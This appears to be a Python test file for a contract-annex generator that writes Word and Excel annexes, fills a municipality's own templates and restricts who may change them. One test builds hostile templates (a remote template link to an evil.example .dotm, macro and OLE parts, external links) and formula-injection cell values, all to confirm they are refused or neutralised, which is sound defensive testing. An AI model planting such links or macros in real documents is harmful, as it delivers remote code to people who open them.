"""Annexes open in LibreOffice and say what was agreed, in our form and in a body's own template."""

import io
import re
import subprocess
import zipfile

import docx
import openpyxl
import pytest
from django.urls import reverse

from sekisho.errors import BadInput, Refused
from sekisho.server.agreements import (
    actions,
    annex_excel,
    annex_word,
    annexes,
    queries,
    questionnaire_queries,
    rules,
)
from sekisho.server.agreements.annex_models import AnnexTemplate
from sekisho.server.crossings.models import JournalEntry


@pytest.fixture
def agreed(actor, contract):
    """A contract with requirements, a table filled but for two lines, and checked items."""
    row = contract(title="=納税通知書印刷業務")
    actions.set_requirements(actor("staff"), row, version=0)
    actions.begin_split(actor("staff"), row, model="outsourcing")
    actions.accept_proposals(actor("staff"), row)
    actions.decide_line(actor("staff"), row, control="12.3.1", party="nobody", note="=1+1", n=1)
    answers = {item.id: {"state": "written", "place": f"第{n}条"} for n, item in enumerate(rules.items(), 1)}
    actions.set_items(actor("staff"), row, version=0, specific=True, answers=answers)
    return row


@pytest.fixture
def pages(tmp_path):
    """Have LibreOffice open a file and give the text of its pages."""

    def convert(data, name):
        (tmp_path / name).write_bytes(data)
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        subprocess.run(
            ["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), name],
            cwd=tmp_path, check=True, capture_output=True, timeout=180,
        )  # fmt: skip
        made = tmp_path / name.rsplit(".", 1)[0]
        text = subprocess.run(
            ["pdftotext", "-layout", f"{made}.pdf", "-"], check=True, capture_output=True, timeout=60
        ).stdout.decode()
        return [re.sub(r"\s+", "", page) for page in text.split("\f")]

    return convert


def template_docx():
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "{{団体名}}様式第7号"
    paragraph = made.add_paragraph("件名は「")
    for part in ("{{", "件", "名", "}}"):
        paragraph.add_run(part)
    paragraph.add_run("」です。")
    made.add_paragraph("{{要件一覧}}")
    table = made.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "相手方"
    table.rows[0].cells[1].text = "{{ 相手方 }}"
    made.add_paragraph("{{責任分界表}}")
    made.add_paragraph("以上 {{知らない言葉}}")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def template_xlsx():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "様式第8号"
    sheet["A1"] = "{{団体名}} {{件名}}"
    sheet["A3"] = "{{要件一覧}}"
    sheet["A4"] = "以上"
    other = book.create_sheet("分界")
    other["B2"] = "{{責任分界表}}"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_plain_word_annex_opens_and_says_everything(agreed, pages):
    told = pages(annex_word.write(annexes.annex_of(agreed)), "annex.docx")
    whole = "".join(told)
    assert len([page for page in told if page]) >= 2
    assert "別紙" in told[0]
    assert "納税通知書印刷業務" in told[0]
    assert "セキュリティ要件" in told[0]
    for one in queries.requirement_lists(agreed)[0].lines:
        assert one["text"][:8] in whole, one["id"]
    for word in ("CLD.9.5.1", "だれも行わない", "秘密を守る義務", "第10条", "東西クラウド"):
        assert word in whole, word
    assert whole.count("管理策") >= 2  # the headings stand on every page of the table


def test_the_plain_excel_annex_opens_and_runs_nothing(agreed, pages):
    data = annex_excel.write(annexes.annex_of(agreed))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["表紙", "セキュリティ要件", "責任分界表", "契約項目の確認表"]
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert {"'=1+1", "'=納税通知書印刷業務"} <= {cell.value for cell in cells}
    whole = "".join(pages(data, "annex.xlsx"))
    for word in ("セキュリティ要件", "CLD.9.5.1", "だれも行わない", "秘密を守る義務"):
        assert word in whole, word


def test_a_bodys_own_word_template_is_filled(agreed, pages):
    data = annex_word.write(annexes.annex_of(agreed), template_docx())
    whole = "".join(pages(data, "own.docx"))
    assert "さくら市様式第7号" in whole
    assert "件名は「=納税通知書印刷業務」です。" in whole
    assert "{{知らない言葉}}" in whole
    assert "CLD.9.5.1" in whole
    assert "{{要件一覧}}" not in whole
    made = docx.Document(io.BytesIO(data))
    assert [len(table.columns) for table in made.tables] == [4, 2, 4]
    assert made.tables[1].rows[0].cells[1].text.startswith("東西クラウド")


def test_a_bodys_own_excel_template_is_filled_and_what_stood_below_moves_down(agreed, pages):
    data = annex_excel.write(annexes.annex_of(agreed), template_xlsx())
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["様式第8号"]
    count = len(queries.requirement_lists(agreed)[0].lines)
    assert sheet["A1"].value == "さくら市 =納税通知書印刷業務"
    assert [cell.value for cell in sheet[3]][:4] == ["番号", "区分", "要件", "根拠"]
    assert sheet.cell(4 + count, 1).value == "以上"
    assert book["分界"]["B2"].value == "管理策"
    cells = [cell for one in book for line in one.iter_rows() for cell in line]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'=1+1" in {cell.value for cell in cells}
    assert "CLD.9.5.1" in "".join(pages(data, "own.xlsx"))


def test_the_page_sends_the_annex_and_the_record_knows_it(signed_in, agreed, actor):
    client = signed_in("staff")
    for form in ("docx", "xlsx"):
        answer = client.get(reverse("agreements:contract_annex", args=[agreed.pk, form]))
        assert answer.status_code == 200
        assert answer.content.startswith(b"PK")
    assert client.get(reverse("agreements:contract_annex", args=[agreed.pk, "exe"])).status_code == 404
    assert JournalEntry.objects.filter(verb="annex.made").count() == 2
    actions.take_template(actor("policy"), name="様式.docx", data=template_docx())
    answer = client.get(reverse("agreements:contract_annex", args=[agreed.pk, "docx"]))
    made = docx.Document(io.BytesIO(answer.content))
    assert made.sections[0].header.paragraphs[0].text == "さくら市様式第7号"


def test_only_those_who_may_change_a_template(actor):
    with pytest.raises(Refused):
        actions.take_template(actor("manager"), name="様式.docx", data=template_docx())
    with pytest.raises(BadInput, match="ひな形に使えるのは"):
        actions.take_template(actor("policy"), name="様式.pdf", data=b"%PDF-1.7")


def hostile(data, name, text):
    """Return the package with one part added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for one in old.namelist():
            new.writestr(one, old.read(one))
        new.writestr(name, text)
    return out.getvalue()


def test_a_template_that_could_do_harm_is_refused_and_the_one_in_use_stays(actor):
    actions.take_template(actor("policy"), name="様式.docx", data=template_docx())
    elsewhere = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="x/attachedTemplate" Target="https://evil.example/x.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    for name, data in (
        ("様式.docx", hostile(template_docx(), "word/_rels/settings2.xml.rels", elsewhere)),
        ("様式.docx", hostile(template_docx(), "word/embeddings/oleObject1.bin", "x")),
        ("様式.docx", hostile(template_docx(), "word/vbaProject.bin", "x")),
        ("様式.xlsx", hostile(template_xlsx(), "xl/externalLinks/externalLink1.xml", "<a/>")),
        ("様式.xlsx", hostile(template_xlsx(), "xl/vbaProject.bin", "x")),
        ("様式.xlsx", template_docx()),
    ):
        with pytest.raises(BadInput):
            actions.take_template(actor("policy"), name=name, data=data)
    assert queries.template_in_use("docx").name == "様式.docx"
    assert queries.template_in_use("xlsx") is None
    assert AnnexTemplate.objects.count() == 1


def test_the_questionnaires_form_opens_and_its_rows_hold_their_text(actor, asked, pages):
    from sekisho.server.agreements import workbooks  # noqa: PLC0415  for this test alone

    row = asked(title="まちの窓口の確認")
    whole = "".join(pages(workbooks.write(row, "さくら市"), "questions.xlsx"))
    assert "まちの窓口の確認" in whole
    assert "質問票" in whole
    for one in questionnaire_queries.questions_of(questionnaire_queries.asked(row)):
        assert one.id in whole
        assert one.text[-8:] in whole or one.text[:8] in whole, one.id


@pytest.mark.django_db(transaction=True)
def test_of_templates_set_at_once_one_is_in_use(actor, at_once):
    data = template_xlsx()
    found = at_once(
        lambda number: actions.take_template(actor("policy"), name=f"別紙{number}.xlsx", data=data)
    )
    assert len({one.pk for one in found}) == 4
    assert AnnexTemplate.objects.filter(kind="xlsx", retired_on=None).count() == 1
